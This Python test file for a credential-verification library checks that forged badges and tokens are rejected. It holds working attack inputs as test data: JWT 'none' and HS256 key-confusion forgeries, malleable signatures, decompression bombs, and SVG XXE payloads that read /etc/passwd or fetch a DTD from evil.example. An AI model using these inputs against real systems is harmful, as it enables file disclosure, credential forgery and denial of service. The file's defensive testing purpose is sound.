"""What forgers try: each attempt fails, in bounded time, for its own reason.

Every case starts from what verifies, changes one thing, and names the code that must come out.
"""

from __future__ import annotations

import base64
import copy
import gzip
import hashlib
import hmac
import json
import time
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from guildmark.credentials import (
    Check,
    CheckCode,
    KeyType,
    LocalSigner,
    PrivateKey,
    Report,
    VerificationMethod,
    add_proof,
    did_document,
    verify,
)
from guildmark.credentials.carriers import png, svg
from guildmark.credentials.identifiers.multibase import (
    decode_base58btc,
    encode_base58btc,
    encode_base64url,
)
from guildmark.credentials.proofs.jose import envelopes, vc_jwt
from guildmark.credentials.status import bitstring
from tests.credentials.builders import DID, LIST_URL, NOW, SEED, Documents, badge, signed, signer
from tests.credentials.carriers import files

EVIL = bytes(range(1, 33))
EVIL_DID = "did:web:evil.example"
# The order of Ed25519's base point.
L = 2**252 + 27742317777372353535851937790883648493
STATUS = "https://www.w3.org/2018/credentials#credentialStatus"
RSA = PrivateKey.generate(KeyType.RSA)


def world(**known: Any) -> Documents:
    """The issuer's documents and those of somebody who is up to no good."""
    resolver = Documents(revoked=frozenset({94567}) if known.pop("revoked", False) else frozenset())
    method = VerificationMethod(
        id=f"{EVIL_DID}#key", controller=EVIL_DID, public_key=PrivateKey.from_seed(EVIL).public
    )
    resolver.known[EVIL_DID] = did_document(EVIL_DID, [method])
    resolver.known |= known
    return resolver


def report(given: Any, resolver: Documents | None = None, **asked: Any) -> Report:
    """The report, which must come, in bounded time, and never be good."""
    start = time.process_time()
    found = verify(given, resolver=resolver or world(), **{"now": NOW, **asked})
    assert time.process_time() - start < 60
    assert found.verified is not True
    return found


def check(given: Any, name: str, resolver: Documents | None = None, **asked: Any) -> Check:
    return report(given, resolver, **asked).check(name)


def about(**changes: Any) -> dict[str, Any]:
    made = badge(**changes)
    made["credentialSubject"]["id"] = "did:example:worker"
    return made


def part(data: Any) -> str:
    raw = data if isinstance(data, bytes) else json.dumps(data).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def forged(header: Any, payload: Any, sign: Callable[[bytes], bytes] = lambda _: b"") -> str:
    """A token that somebody put together by hand."""
    signed_part = f"{part(header)}.{part(payload)}"
    return f"{signed_part}.{part(sign(signed_part.encode()))}"


def claims() -> dict[str, Any]:
    token = vc_jwt.issue(about(), signer())
    payload = token.split(".")[1]
    return dict(json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))))


def test_the_world_is_good_before() -> None:
    assert verify(signed(), resolver=world(), now=NOW).verified is True
    assert verify(vc_jwt.issue(about(), signer()), resolver=world(), now=NOW).verified is True


# Signature wrapping: the signed document moved to where nobody looks.


def test_a_signed_badge_wrapped_in_another_proves_nothing_of_it() -> None:
    inner = signed()
    outer = {**badge(name="Forged", id="urn:x:1"), "proof": inner["proof"]}
    outer["evidence"] = [{**outer["evidence"][0], "id": inner["id"]}]
    assert check(outer, "proof").code is CheckCode.PROOF_INVALID
    outer["relatedCredential"] = inner
    assert check(outer, "context").code is CheckCode.CONTEXT_NOT_PROTECTED


def test_a_proof_within_a_proof_is_not_one() -> None:
    document = signed()
    document["name"] = "Forged"
    document["proof"] = {"type": "Wrapper", "proof": document["proof"]}
    assert check(document, "proof").code is CheckCode.PROOF_UNSUPPORTED


def test_a_graph_around_the_credential_is_refused() -> None:
    document = signed()
    wrapped = {"@context": document["@context"], "@graph": [document]}
    assert check(wrapped, "structure").code is CheckCode.STRUCTURE_INVALID
    document["@graph"] = [badge(name="Forged")]
    assert check(document, "context").code is CheckCode.CONTEXT_NOT_PROTECTED


def test_an_envelope_with_members_of_its_own_says_nothing_by_them() -> None:
    token = envelopes.secure(badge(), signer(EVIL))
    envelope = envelopes.envelop(token, envelopes.TokenFormat.VC)
    found = report({**envelope, "issuer": DID, "name": "Forged", "proof": signed()["proof"]})
    assert found.check("proof").code is CheckCode.PROOF_INVALID
    assert found.name != "Forged"


# Tokens.


@pytest.mark.parametrize("alg", ["none", "None", "nOnE", "", None, 1, "HS256", "RS384", "ES256K"])
def test_an_algorithm_that_proves_nothing_is_refused(alg: Any) -> None:
    found = report(forged({"alg": alg, "kid": f"{DID}#key"}, claims()))
    assert found.check("proof").code is CheckCode.PROOF_ALGORITHM_REFUSED


def test_a_public_key_is_no_shared_secret() -> None:
    pem = signer().public_key.data

    def sign(data: bytes) -> bytes:
        return hmac.digest(pem, data, hashlib.sha256)

    token = forged({"alg": "HS256", "kid": f"{DID}#key"}, claims(), sign)
    assert check(token, "proof").code is CheckCode.PROOF_ALGORITHM_REFUSED


@pytest.mark.parametrize("alg", ["ES256", "ES384", "RS256"])
def test_the_key_decides_the_algorithm(alg: str) -> None:
    token = forged({"alg": alg, "kid": f"{DID}#key"}, claims(), PrivateKey.from_seed(SEED).sign)
    assert check(token, "proof").code is CheckCode.PROOF_ALGORITHM_REFUSED


@pytest.mark.parametrize(
    "header",
    [
        {"crit": ["exp"], "exp": 9_999_999_999},
        {"b64": False, "crit": ["b64"]},
        {"typ": "at+jwt"},
    ],
)
def test_a_header_that_asks_for_more_is_refused(header: Any) -> None:
    key = PrivateKey.from_seed(SEED)
    token = forged({"alg": "EdDSA", "kid": f"{DID}#key", **header}, claims(), key.sign)
    assert check(token, "proof").code is CheckCode.PROOF_INVALID


@pytest.mark.parametrize(
    ("claim", "value"),
    [
        ("iss", EVIL_DID),
        ("jti", "urn:x:other"),
        ("sub", "did:example:other"),
        ("nbf", 0),
        ("exp", 9_999_999_999),
        ("iss", None),
    ],
)
def test_claims_that_say_otherwise_than_the_credential(claim: str, value: Any) -> None:
    payload = {**claims(), claim: value}
    if value is None:
        del payload[claim]
    key = PrivateKey.from_seed(SEED)
    token = forged({"alg": "EdDSA", "kid": f"{DID}#key"}, payload, key.sign)
    assert check(token, "proof").code is CheckCode.PROOF_CLAIMS_CONTRADICT


def test_a_key_in_the_header_is_not_the_issuers() -> None:
    token = vc_jwt.issue(about(), signer(EVIL), bring_key=True)
    found = report(token)
    assert found.check("proof").code is CheckCode.PROOF_VALID_WITH_OWN_KEY
    assert found.check("issuer").code is CheckCode.ISSUER_NOT_BOUND
    header = {"alg": "EdDSA", "kid": f"{DID}#key", "jwk": signer(EVIL).public_key.to_jwk()}
    token = forged(header, claims(), PrivateKey.from_seed(EVIL).sign)
    assert check(token, "proof").code is CheckCode.PROOF_INVALID


def test_somebody_elses_key_under_the_issuers_name() -> None:
    token = forged(
        {"alg": "EdDSA", "kid": f"{EVIL_DID}#key"}, claims(), PrivateKey.from_seed(EVIL).sign
    )
    found = report(token)
    assert found.check("proof").code is CheckCode.PROOF_VALID
    assert found.check("issuer").code is CheckCode.ISSUER_NOT_BOUND


def test_a_header_cannot_send_the_verifier_anywhere() -> None:
    asked: list[str] = []

    class Watching(Documents):
        def resolve(self, identifier: str) -> dict[str, Any]:
            asked.append(identifier)
            return super().resolve(identifier)

    header = {"alg": "EdDSA", "jku": "https://evil.example/keys", "x5u": "https://evil.example/x"}
    report(forged(header, claims(), PrivateKey.from_seed(EVIL).sign), Watching())
    assert all("evil" not in address for address in asked)


@pytest.mark.parametrize("change", ["padding", "plain", "idle bits", "fourth part", "blank"])
def test_a_token_has_one_way_to_be_written(change: str) -> None:
    token = vc_jwt.issue(about(), signer())
    changed = {
        "padding": f"{token}==",
        "plain": f"{token[:-1]}+",
        "idle bits": token[:-1] + chr(ord(token[-1]) + 1),
        "fourth part": f"{token}.e30",
        "blank": token.replace(".", " ."),
    }[change]
    assert check(changed, "structure").code is CheckCode.STRUCTURE_INVALID


# JSON that two readers read in two ways, or that is too much.


@pytest.mark.parametrize(
    "text",
    [
        '{"name": "Forged", ' + json.dumps(signed())[1:],
        json.dumps(signed())[:-1] + ', "issuer": "did:web:evil.example"}',
        json.dumps(signed()).replace('"hashed": false', '"hashed": true, "hash\\u0065d": false'),
        json.dumps(signed()).replace('"7', "7", 0)[:-1] + ', "x": 1e999}',
        json.dumps(signed())[:-1] + ', "x": ' + "9" * 4_000 + "}",
        json.dumps(signed())[:-1] + ', "x": NaN}',
        json.dumps(signed())[:-1] + ', "x": ' + "[" * 90_000 + "]" * 90_000 + "}",
        json.dumps(signed())[:-1] + ', "x": [' + "0," * 30_000 + "0]}",
        json.dumps(signed())[:-1] + ', "x": "' + "x" * 1_000_001 + '"}',
        json.dumps(signed()).encode("utf-16"),
        b"\xef\xbb\xbf\xef\xbb\xbf" + json.dumps(signed()).encode(),
        json.dumps(signed()).encode()[:-1] + b', "x": "\xff"}',
        json.dumps([signed()]),
    ],
)
def test_json_is_read_strictly(text: str | bytes) -> None:
    assert check(text, "structure").code is CheckCode.STRUCTURE_INVALID


@pytest.mark.parametrize("number", [2**63, 10**29, 1e300])
def test_numbers_that_readers_round_are_refused(number: Any) -> None:
    document = badge()
    document["credentialSubject"]["achievement"]["creditsAvailable"] = number
    document["proof"] = signed()["proof"]
    assert check(json.dumps(document), "proof").code is CheckCode.PROOF_INVALID


def test_a_parsed_document_is_bounded_too() -> None:
    deep: Any = "x"
    for _ in range(900):
        deep = [deep]
    assert check({**signed(), "x": deep}, "structure").code is CheckCode.STRUCTURE_INVALID


# JSON-LD.


def clique(size: int) -> list[dict[str, Any]]:
    return [
        {
            "id": f"_:n{a}",
            "type": ["Profile"],
            "parentOrg": [{"id": f"_:n{b}", "type": ["Profile"]} for b in range(size) if b != a],
        }
        for a in range(size)
    ]


@pytest.mark.parametrize("size", [7, 9, 20])
def test_a_poison_graph_costs_bounded_time(size: int) -> None:
    document = signed()
    document["credentialSubject"]["achievement"]["creator"] = clique(size)
    found = check(document, "context")
    assert found.code is CheckCode.CONTEXT_NOT_PROTECTED
    assert "unbounded" in found.data["reason"]


def test_an_injected_context_does_not_change_what_was_signed() -> None:
    remap = {"name": "https://schema.org/description", "description": "https://schema.org/name"}
    for injected, code in (
        (remap, CheckCode.CONTEXT_NOT_PROTECTED),
        ({"issuer": None}, CheckCode.CONTEXT_NOT_PROTECTED),
        # Contexts that are not bundled are not interpreted at all.
        ("https://evil.example/context", CheckCode.CONTEXT_UNKNOWN),
    ):
        document = signed()
        document["@context"] = [*document["@context"], injected]
        found = report(document)
        assert found.check("context").code is code
        assert found.check("proof").code is not CheckCode.PROOF_VALID
    document = signed()
    document["@context"] = [*document["@context"], {"@vocab": "https://evil.example/"}]
    document["bonus"] = "1000 EUR"
    assert check(document, "proof").code is CheckCode.PROOF_INVALID
    for known in ("openbadges/v2", "security/data-integrity/v1"):
        document = signed()
        document["@context"] = [*document["@context"], f"https://w3id.org/{known}"]
        assert check(document, "context").code is not CheckCode.CONTEXT_UNKNOWN
    document = signed()
    document["credentialSubject"]["@context"] = {"achievement": "https://evil.example/a"}
    found = report(document)
    assert CheckCode.PROOF_VALID is not found.check("proof").code


@pytest.mark.parametrize("suite", ["eddsa-jcs-2022", "eddsa-rdfc-2022"])
def test_what_no_context_defines_is_refused_however_it_is_signed(suite: str) -> None:
    document = badge(name="x")
    if suite == "eddsa-jcs-2022":
        document["bonus"] = "1000 EUR"
    document = add_proof(document, signer=signer(), created=NOW, suite=suite)
    document["bonus"] = "1000 EUR"
    assert check(document, "context").code is CheckCode.CONTEXT_NOT_PROTECTED


def hide(document: dict[str, Any], how: str) -> dict[str, Any]:
    """A signed and revoked badge whose status stands where nobody looks."""
    status = document.pop("credentialStatus")
    if how == "address":
        return {**document, STATUS: status}
    if how == "alias":
        alias = {"s": {"@id": STATUS, "@type": "@id"}}
        return {**document, "@context": [*document["@context"], alias], "s": status}
    if how == "nest":
        nest = {"n": "@nest"}
        return {
            **document,
            "@context": [*document["@context"], nest],
            "n": {"credentialStatus": status},
        }
    if how == "reverse":
        return {**document, "@reverse": {STATUS: [{"id": status["id"]}]}}
    document["credentialSubject"]["achievement"]["related"] = [
        {"id": document["id"], "type": ["Related"], "credentialStatus": status}
    ]
    return document


@pytest.mark.parametrize("how", ["address", "alias", "nest", "reverse", "inside"])
def test_a_status_cannot_be_hidden(how: str) -> None:
    resolver = world(revoked=True)
    assert check(signed(), "status", resolver).code is CheckCode.STATUS_REVOKED
    found = report(hide(signed(), how), resolver)
    assert found.check("context").code is CheckCode.CONTEXT_NOT_PROTECTED


@pytest.mark.parametrize("name", ["@id", "@language", "@index", "@included", "@set"])
def test_keywords_beside_their_aliases_are_refused(name: str) -> None:
    document = signed()
    document[name] = EVIL_DID if name != "@included" else [badge(name="Forged")]
    found = report(document)
    assert found.check("context").code is CheckCode.CONTEXT_NOT_PROTECTED


def test_identifiers_are_whole() -> None:
    for identifier in ("relative", "../x", "//evil.example/x", "#x", "https://x y"):
        document = signed()
        document["credentialSubject"]["achievement"]["id"] = identifier
        assert check(document, "context").code is CheckCode.CONTEXT_NOT_PROTECTED
    assert check({**signed(), "id": "x"}, "structure").code is CheckCode.STRUCTURE_INVALID
    two = {**signed()["issuer"], "@id": EVIL_DID}
    assert check({**signed(), "issuer": two}, "context").code is CheckCode.CONTEXT_NOT_PROTECTED


# Proofs.


def test_a_chain_does_not_hold_without_its_first_link() -> None:
    first = add_proof(badge(), signer=signer(), created=NOW, proof_id="urn:x:first")
    both = add_proof(first, signer=signer(), created=NOW, previous_proof="urn:x:first")
    assert verify(both, resolver=world(), now=NOW).verified is True
    stripped = {**both, "proof": both["proof"][1]}
    assert check(stripped, "proof").code is CheckCode.PROOF_INVALID
    unknown = {**both["proof"][0], "cryptosuite": "other-2030"}
    swapped = {**both, "proof": [unknown, both["proof"][1]]}
    assert check(swapped, "proof").code is CheckCode.PROOF_UNSUPPORTED


def test_what_is_left_of_a_set_is_told() -> None:
    """A set has nothing that says how many there were: whoever needs that signs a chain. The report
    names the signers that are left, and what it does not know."""
    second = LocalSigner(PrivateKey.from_seed(EVIL), verification_method=f"{EVIL_DID}#key")
    both = add_proof(signed(), signer=second, created=NOW)
    full = verify(both, resolver=world(), now=NOW)
    assert full.verified is True
    assert full.check("proof").data["signedWith"] == [f"{DID}#key", f"{EVIL_DID}#key"]
    stripped = {**both, "proof": [both["proof"][0]]}
    left = verify(stripped, resolver=world(), now=NOW)
    assert "signedWith" not in left.check("proof").data
    assert check({**both, "proof": [both["proof"][1]]}, "issuer").code == "issuer.not_bound"
    foreign = {"type": "DataIntegrityProof", "cryptosuite": "other-2030"}
    beside = verify({**signed(), "proof": [foreign, signed()["proof"]]}, resolver=world(), now=NOW)
    assert beside.verified is True
    assert beside.check("proof").data["unsupported"] == ["other-2030"]
    assert check({**badge(), "proof": [foreign]}, "proof").code is CheckCode.PROOF_UNSUPPORTED
    assert check({**badge(), "proof": []}, "proof").code is CheckCode.PROOF_UNSUPPORTED


def test_one_bad_proof_in_a_set_is_enough() -> None:
    bad = copy.deepcopy(signed(name="Other")["proof"])
    assert check({**signed(), "proof": [signed()["proof"], bad]}, "proof").code == "proof.invalid"


def signature(document: dict[str, Any]) -> bytes:
    return decode_base58btc(document["proof"]["proofValue"])


@pytest.mark.parametrize("change", ["s + L", "zeros", "longer", "shorter", "base64", "leading 1"])
def test_a_signature_has_one_form(change: str) -> None:
    document = signed()
    raw = signature(document)
    s = int.from_bytes(raw[32:], "little")
    values = {
        "s + L": encode_base58btc(raw[:32] + (s + L).to_bytes(32, "little")),
        "zeros": encode_base58btc(bytes(64)),
        "longer": encode_base58btc(raw + b"\0"),
        "shorter": encode_base58btc(raw[:-1]),
        "base64": encode_base64url(raw),
        "leading 1": "z1" + document["proof"]["proofValue"][1:],
    }
    document["proof"]["proofValue"] = values[change]
    assert check(document, "proof").code is CheckCode.PROOF_INVALID


def test_a_key_of_small_order_signs_nothing() -> None:
    resolver = world()
    point = (1).to_bytes(32, "little")
    method = resolver.known[DID]["verificationMethod"][0]
    method["publicKeyMultibase"] = encode_base58btc(b"\xed\x01" + point)
    document = signed()
    document["proof"]["proofValue"] = encode_base58btc(point + bytes(32))
    assert check(document, "proof", resolver).code is CheckCode.PROOF_INVALID


def test_a_swapped_verification_method() -> None:
    document = signed()
    document["proof"]["verificationMethod"] = f"{EVIL_DID}#key"
    assert check(document, "proof").code is CheckCode.PROOF_INVALID
    document["proof"]["verificationMethod"] = f"{DID}#other"
    assert check(document, "proof").code is CheckCode.PROOF_WRONG_KEY
    made = add_proof(badge(), signer=signer(EVIL, EVIL_DID), created=NOW)
    assert check(made, "issuer").code is CheckCode.ISSUER_NOT_BOUND


def test_a_proof_for_another_purpose() -> None:
    made = add_proof(badge(), signer=signer(), created=NOW, purpose="authentication")
    assert check(made, "proof").code is CheckCode.PROOF_WRONG_PURPOSE
    made["proof"]["proofPurpose"] = "assertionMethod"
    assert check(made, "proof", world()).code is CheckCode.PROOF_INVALID


def test_an_expired_proof() -> None:
    end = NOW.replace(month=7)
    made = add_proof(badge(), signer=signer(), created=NOW, expires=end)
    assert check(made, "proof", now=end).code is CheckCode.PROOF_EXPIRED
    del made["proof"]["expires"]
    assert check(made, "proof", now=end).code is CheckCode.PROOF_INVALID


def test_a_suite_that_was_exchanged() -> None:
    for suite in ("eddsa-jcs-2022", "ecdsa-rdfc-2019", "eddsa-2022"):
        document = signed()
        document["proof"]["cryptosuite"] = suite
        assert check(document, "proof").code is CheckCode.PROOF_INVALID


# Status lists.


def listed(**changes: Any) -> dict[str, Any]:
    document = Documents().known[LIST_URL]
    document = {key: value for key, value in document.items() if key != "proof"}
    return {**document, **changes}


def subject(encoded: str) -> dict[str, Any]:
    return {
        "id": f"{LIST_URL}#list",
        "type": "BitstringStatusList",
        "statusPurpose": "revocation",
        "encodedList": encoded,
    }


def bomb(size: int) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    return encode_base64url(
        b"".join([*(packer.compress(block) for _ in range(size)), packer.flush()])
    )


def made_list(document: dict[str, Any], by: LocalSigner | None = None) -> dict[str, Any]:
    return add_proof(document, signer=by or signer(), created=NOW)


@pytest.mark.parametrize(
    ("document", "code"),
    [
        (
            made_list(listed(issuer=EVIL_DID), signer(EVIL, EVIL_DID)),
            "status.list_of_another_issuer",
        ),
        (made_list(listed(), signer(EVIL, EVIL_DID)), "status.invalid"),
        ({**made_list(listed()), "validFrom": "2026-01-02T00:00:00Z"}, "status.invalid"),
        (listed(), "status.invalid"),
        (made_list(listed(id="https://works.example/status/2")), "status.invalid"),
        (made_list(listed(credentialSubject=subject(bomb(300)))), "status.invalid"),
        (
            made_list(listed(credentialSubject=subject(encode_base64url(gzip.compress(bytes(9)))))),
            "status.list_too_short",
        ),
        (signed(), "status.invalid"),
    ],
)
def test_a_status_list_that_is_not_the_issuers_own(document: Any, code: str) -> None:
    assert check(signed(), "status", world(**{LIST_URL: document})).code == code


@pytest.mark.parametrize("index", [131_072, 10**39])
def test_an_index_out_of_range(index: int) -> None:
    entry = bitstring.status_entry(list_url=LIST_URL, purpose="revocation", index=1)
    document = signed(credentialStatus={**entry, "statusListIndex": str(index)})
    assert check(document, "status").code is CheckCode.STATUS_OUT_OF_RANGE


@pytest.mark.parametrize("index", ["-1", "1.0", " 1", "٣", "0x1", "1" * 41, 1, None])
def test_an_index_that_is_none(index: Any) -> None:
    entry = bitstring.status_entry(list_url=LIST_URL, purpose="revocation", index=1)
    document = {**badge(), "credentialStatus": {**entry, "statusListIndex": index}}
    document["proof"] = signed()["proof"]
    assert check(document, "status").code is CheckCode.STATUS_ENTRY_INVALID


# Files.


def test_a_png_that_inflates_without_end() -> None:
    packed = zlib.compress(bytes(200 << 20), 9)
    chunk = files.chunk(b"iTXt", b"openbadgecredential\0\x01\0\0\0" + packed)
    assert check(files.picture(chunk), "structure").code is CheckCode.STRUCTURE_INVALID


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
    ],
)
def test_an_svg_with_entities(head: str) -> None:
    baked = svg.bake(files.drawing(), json.dumps(signed()))
    assert verify(baked, resolver=world(), now=NOW).verified is True
    assert check(head.encode() + baked, "structure").code is CheckCode.STRUCTURE_INVALID


def test_two_credentials_in_one_picture() -> None:
    baked = png.bake(files.picture(), json.dumps(signed()))
    chunk = files.chunk(
        b"iTXt", b"openbadgecredential\0\0\0\0\0" + json.dumps(badge(name="Forged")).encode()
    )
    end = baked.rindex(b"IEND") - 4
    assert check(baked[:end] + chunk + baked[end:], "structure").code == "structure.invalid"


# Names that look like others.


@pytest.mark.parametrize(
    ("name", "did", "warnings"),
    [
        ("Nоrvale Works", DID, ["mixed_scripts"]),
        ("аррӏе", DID, ["looks_latin"]),
        ("Works\u202e", DID, ["invisible"]),
        ("Works", "did:web:xn--wrks-55d.example", ["mixed_scripts"]),
        ("Łódź Öztürk Αθήνα 株式会社トヨタ Ёлка", DID, []),
    ],
)
def test_homographs_are_reported(name: str, did: str, warnings: list[str]) -> None:
    document = badge(issuer={"id": did, "type": ["Profile"], "name": name})
    del document["credentialStatus"]
    method = VerificationMethod(
        id=f"{did}#key", controller=did, public_key=PrivateKey.from_seed(SEED).public
    )
    resolver = world(**{did: did_document(did, [method])})
    found = verify(
        add_proof(document, signer=signer(did=did), created=NOW), resolver=resolver, now=NOW
    )
    assert found.verified is True
    told = found.check("issuer").data.get("warnings", [])
    assert [part["warning"] for part in told] == warnings
